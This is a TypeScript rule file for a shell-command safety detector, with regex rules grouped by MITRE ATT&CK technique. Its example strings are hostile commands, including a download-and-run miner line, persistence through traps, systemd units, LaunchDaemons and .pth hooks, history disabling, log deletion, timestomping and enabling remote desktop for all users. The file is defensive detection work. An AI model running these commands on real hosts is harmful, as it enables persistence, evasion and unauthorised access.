// Data: ATT&CK technique-family rules of the `command_unsafe` detector (`rules.ts` joins the parts).
import type { DocumentedRule } from "../rule-set.js";
import { commandRule as r } from "./command-rule.js";

/**
 * Shell tradecraft by MITRE ATT&CK technique family (download-and-run, traps, history, kernel modules, services, autostart, remote desktop, interpreter hooks, browser stores, log and time tampering), added after the base rules.
 * Discovery alone (`uname`, `env`, `ps`, `ls`) is deliberately absent.
 */
export const TECHNIQUE_PERSISTENCE_RULES: readonly DocumentedRule[] = [
  // T1105 + T1059: download, then make executable or run.
  r(
    "pipe_to_shell",
    /\b(?:curl|wget)\b[^\n;&|]{0,256}(?:;|&&|\|\||\n)[^\n]{0,256}?(?:\bchmod\s+(?:\+x|[0-7]?7[0-7][0-7])|\b(?:ba)?sh\s+\S+\.sh\b|(?:^|[;&|]\s*)\.\/\S+)/gm,
    "high",
    0.75,
    {
      id: "command_unsafe.pipe_to_shell_curl_chmod",
      meaning:
        "Runs code that is downloaded or decoded on the fly: `curl -s {miner_url} -o miner && chmod +x` and the like.",
      matches: ['os.system(f"curl -s {miner_url} -o miner && chmod +x miner && ./miner")'],
      ignores: ["bsub -I bash"],
    },
  ),
  // T1546.005 / T1056.001: traps that run code, log commands or keep a shell alive.
  r(
    "persistence",
    /\btrap\s+(["'])(?:(?!\1)[^\n]){0,256}(?:\bnohup\b|\b(?:ba)?sh\s|\bcurl\b|\bwget\b|>>|\$BASH_COMMAND)(?:(?!\1)[^\n]){0,256}\1\s+(?:DEBUG|EXIT|ERR|RETURN|SIG\w+|INT|TERM|HUP)\b/g,
    "high",
    0.75,
    {
      id: "command_unsafe.persistence_trap_debug",
      meaning:
        'Makes code run again later (persistence): `trap \'echo "$BASH_COMMAND" >> /tmp/art-fish.t…` and the like.',
      matches: ["trap 'echo \"$BASH_COMMAND\" >> /tmp/art-fish.txt' DEBUG"],
      ignores: ["dunst -print"],
    },
  ),
  // T1562.003: impair command history.
  r(
    "evasion",
    /\bHISTCONTROL=["']?(?:ignoreboth|ignorespace|erasedups)|\bHISTIGNORE=|\bexport\s+HISTFILE=|\bHISTTIMEFORMAT=["']?\s*["']?$/gm,
    "medium",
    0.65,
    {
      id: "command_unsafe.evasion_histcontrol_ignoreboth",
      meaning: "Hides activity or impairs defenses: `export HISTFILE=` and the like.",
      matches: ['export HISTFILE="/dev/null"'],
      ignores: ["conda export"],
    },
  ),
  // T1547.006 / T1014: kernel modules and extensions.
  r("privilege", /\b(?:kextload|kmutil\s+load|kextutil)\b/g, "high", 0.75, {
    id: "command_unsafe.privilege_kextload",
    meaning: "Gains or grants elevated privileges: `kextload` and the like.",
    matches: ["sudo kextload /Library/Extensions/SoftRAID.kext"],
    ignores: ["picgo upload"],
  }),
  // T1543 / T1569: system services from unusual places, transient units running shells.
  r(
    "persistence",
    /\bsystemd-run\b[^\n]{0,256}\/bin\/(?:ba)?sh\b|\bExecStart=[^\n]{0,256}(?:\/tmp\/|\/dev\/shm\/|\/bin\/(?:ba)?sh\s+-c)|(?:>>?|tee\s+(?:-a\s+)?)\s*[^\s>]{0,256}\/(?:systemd\/(?:system|user)|\.config\/systemd\/user|\.config\/autostart|xdg\/autostart|udev\/rules\.d)\/\S{0,256}/g,
    "high",
    0.75,
    {
      id: "command_unsafe.persistence_systemd_run",
      meaning:
        "Makes code run again later (persistence): `>> /etc/systemd/system/atomic-test.service` and the like.",
      matches: ['echo "" >> /etc/systemd/system/atomic-test.service'],
      ignores: ["make /tmp/cap"],
    },
  ),
  // T1037 / T1543 / T1547: files copied, linked or created in autostart locations.
  r(
    "persistence",
    /\b(?:cp|mv|ln|install|touch|ditto)\b[^\n]{0,256}\s["']?(?:~|\$HOME)?\/(?:Library\/(?:LaunchDaemons|LaunchAgents|StartupItems)|etc\/(?:cron\.(?:d|daily|hourly|weekly|monthly)|init\.d|rc\.d|systemd\/system|profile\.d|update-motd\.d)|\.config\/autostart)\/?/g,
    "high",
    0.75,
    {
      id: "command_unsafe.persistence_library_launchdaemons",
      meaning: "Makes code run again later (persistence): `touch /Library/StartupItems/` and the like.",
      matches: ["sudo touch /Library/StartupItems/EvilStartup.plist"],
      ignores: ["deno install"],
    },
  ),
  // T1021.005: enabling remote desktop/VNC access.
  r("exfiltration", /\bkickstart\b[^\n]{0,256}-activate\b|\bARDAgent\.app\b/g, "high", 0.7, {
    id: "command_unsafe.exfiltration_kickstart_activate",
    meaning: "Sends files or data off the host: `ARDAgent.app` and the like.",
    matches: [
      "sudo /System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -allowAccessFor -allUsers -privs -all -quiet",
    ],
    ignores: ["wp plugin install {{plugin}} --activate"],
  }),
  // T1546.018 and friends: interpreter start-up hooks.
  r(
    "persistence",
    /\.pth\b[^\n]{0,256}(?:site-packages|getsitepackages)|(?:site-packages|getsitepackages)[^\n]{0,256}\.pth\b/g,
    "high",
    0.7,
    {
      id: "command_unsafe.persistence_site_packages",
      meaning:
        "Makes code run again later (persistence): `echo 'import os; os.system(\"id\")' > /usr/lib/…` and the like.",
      matches: ["echo 'import os; os.system(\"id\")' > /usr/lib/python3/site-packages/evil.pth"],
      ignores: ['ls -la "$SITE_PACKAGES/atomic_hook.pth"'],
    },
  ),
  // T1539 / T1555.003: browser debugging ports and profile stores.
  r(
    "credential_access",
    /--remote-debugging-port\b|\bkillall\s+["']?(?:Google Chrome|Safari|firefox|chrome)\b/gi,
    "high",
    0.75,
    {
      id: "command_unsafe.credential_access_remote_debugging",
      meaning: "Reads or dumps credentials: `killall 'Google Chrome` and the like.",
      matches: ["killall 'Google Chrome'"],
      ignores: ["tldr firefox"],
    },
  ),
  // T1070.002 / T1070.008: logs and mail spools cleared or rewritten.
  r(
    "evasion",
    /\b(?:truncate\s+-s\s*0|rm\s+-[a-zA-Z]*f?[a-zA-Z]*)\s+[^\n]{0,256}(?:\/var\/lib\/docker\/containers|\/var\/spool\/mail|\/var\/mail|Library\/Mail|\.log\b)|\bdocker\s+(?:container\s+)?prune\b[^\n]{0,256}&&[^\n]{0,256}truncate\b/g,
    "high",
    0.7,
    {
      id: "command_unsafe.evasion_var_lib",
      meaning: "Hides activity or impairs defenses: `rm -rf /var/log/system.log` and the like.",
      matches: ["sudo rm -rf /var/log/system.log"],
      ignores: ["docker login"],
    },
  ),
  // T1070.006: timestomping to a fixed old date.
  r("evasion", /\btouch\s+(?:-[a-zA-Z]+\s+){0,8}-[a-zA-Z]*[td]\s+["']?(?:19\d\d|20[01]\d)/g, "medium", 0.65, {
    id: "command_unsafe.evasion_touch_19",
    meaning: "Hides activity or impairs defenses: `touch -a -t 1970` and the like.",
    matches: ["touch -a -t 197001010000.00 /tmp/T1070.006-access.txt"],
    ignores: [
      'NOW=$(date +%m%d%H%M%Y)\ndate 010100001971\ntouch /tmp/T1070.006-creation.txt\ndate "$NOW"\nstat /tmp/T1070.006-creation.txt\n',
    ],
  }),
];
